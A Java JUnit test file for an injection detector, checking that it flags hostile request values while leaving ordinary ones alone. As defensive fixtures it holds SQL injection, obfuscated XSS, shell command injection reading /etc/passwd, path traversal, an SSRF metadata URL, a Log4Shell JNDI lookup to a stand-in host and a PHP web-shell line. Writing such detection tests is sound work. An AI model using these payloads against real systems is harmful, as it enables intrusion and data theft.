package io.gatehouse.insight.injection;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class InjectionDetectorTest {
  private final InjectionDetector detector = InjectionDetector.defaults();

  private List<InjectionCategory> categories(String value) {
    return detector.inspectValue("query:q", value).stream().map(InjectionFinding::category).toList();
  }

  @Test
  void leavesOrdinaryValuesAlone() {
    for (String v : List.of("hello world", "john.doe@example.com", "2024-01-01T10:00:00Z",
        "https://example.com/a/b?c=d", "Rock and roll", "O'Brien", "3 for 20", "C# & .NET", "50% off")) {
      assertThat(detector.inspectValue("query:q", v)).as(v).isEmpty();
    }
  }

  @Test
  void detectsSqlInjectionShapes() {
    assertThat(categories("1' OR '1'='1")).contains(InjectionCategory.SQLI);
    assertThat(categories("-1 UNION ALL SELECT username, password FROM users")).contains(InjectionCategory.SQLI);
    assertThat(categories("1; DROP TABLE users--")).contains(InjectionCategory.SQLI);
    assertThat(categories("1 AND SLEEP(5)")).contains(InjectionCategory.SQLI);
    assertThat(categories("admin'--")).contains(InjectionCategory.SQLI);
  }

  @Test
  void seesThroughEncodingAndObfuscation() {
    assertThat(categories("1%2527%2520OR%25201%253D1--")).contains(InjectionCategory.SQLI);
    assertThat(categories("1/**/UnIoN/**/SeLeCt/**/1")).contains(InjectionCategory.SQLI);
    assertThat(categories("&lt;script&gt;alert(1)&lt;/script&gt;")).contains(InjectionCategory.XSS);
    assertThat(categories("%uFF1Cscript%uFF1Ealert(1)")).contains(InjectionCategory.XSS);
    assertThat(categories("<a href=\"jav&#x09;ascript:alert(1)\">x</a>")).contains(InjectionCategory.XSS);
  }

  @Test
  void judgesValuesAsIsWithoutDecodingThemAgain() {
    InjectionDetector d = InjectionDetector.defaults();
    // the caller decoded: percent signs and entities are literal text, not a hidden quote
    assertThat(d.isSqlInjectionAsIs("foo+bar%27%23+blah")).isFalse();
    assertThat(d.isCrossSiteScriptingAsIs("%3Cscript%3Ealert(1)%3C/script%3E")).isFalse();
    // the same text decoded is what the detector flags
    assertThat(d.isSqlInjectionAsIs("1' OR 1=1--")).isTrue();
    assertThat(d.isSqlInjectionAsIs("-1 UNION ALL SELECT username, password FROM users")).isTrue();
    assertThat(d.isCrossSiteScriptingAsIs("<script>alert(1)</script>")).isTrue();
    assertThat(d.isSqlInjectionAsIs("hello world")).isFalse();
    assertThat(d.isCrossSiteScriptingAsIs("hello world")).isFalse();
  }

  @Test
  void detectsOtherCategories() {
    assertThat(categories("<img src=x onerror=alert(1)>")).contains(InjectionCategory.XSS);
    assertThat(categories("x; cat /etc/passwd")).contains(InjectionCategory.COMMAND);
    assertThat(categories("$(whoami)")).contains(InjectionCategory.COMMAND);
    assertThat(categories("../../../../etc/passwd")).contains(InjectionCategory.PATH_TRAVERSAL);
    assertThat(categories("http://169.254.169.254/latest/meta-data/")).contains(InjectionCategory.SSRF);
    assertThat(categories("{{7*7}}")).contains(InjectionCategory.TEMPLATE);
    assertThat(categories("${${lower:j}ndi:ldap://evil.example/a}")).contains(InjectionCategory.JAVA_JNDI);
    assertThat(categories("<?php system($_GET['c']); ?>")).contains(InjectionCategory.PHP);
  }

  @Test
  void inspectsEveryRequestPart() {
    InspectedRequest req = new InspectedRequest("POST", "/items/..%2f..%2fetc%2fpasswd", "q=1%27%20or%201%3D1--",
        List.of(Map.entry("User-Agent", "<script>alert(1)</script>"), Map.entry("Cookie", "sid=abc; x=$(id)")),
        "application/json", "{\"name\":\"ok\",\"nested\":{\"comment\":\"<svg onload=alert(1)>\"}}");
    List<String> locations = detector.inspect(req).stream().map(InjectionFinding::location).toList();
    assertThat(locations).contains("path", "query:q", "header:User-Agent", "cookie:x", "json:comment");
  }

  @Test
  void cutsValuesAtTheConfiguredLength() {
    InjectionDetector small = InjectionDetector.builder().maxValueChars(16).build();
    String padded = "a".repeat(20) + "<script>alert(1)</script>";
    assertThat(small.inspectValue("q", padded)).isEmpty();
    assertThat(detector.inspectValue("q", padded)).isNotEmpty();
  }

  @Test
  void rejectsInvalidSettings() {
    assertThatThrownBy(() -> InjectionDetector.builder().threshold(101))
        .hasMessageContaining("101");
    assertThatThrownBy(() -> InjectionDetector.builder().maxValueChars(3)).hasMessageContaining("3");
  }
}
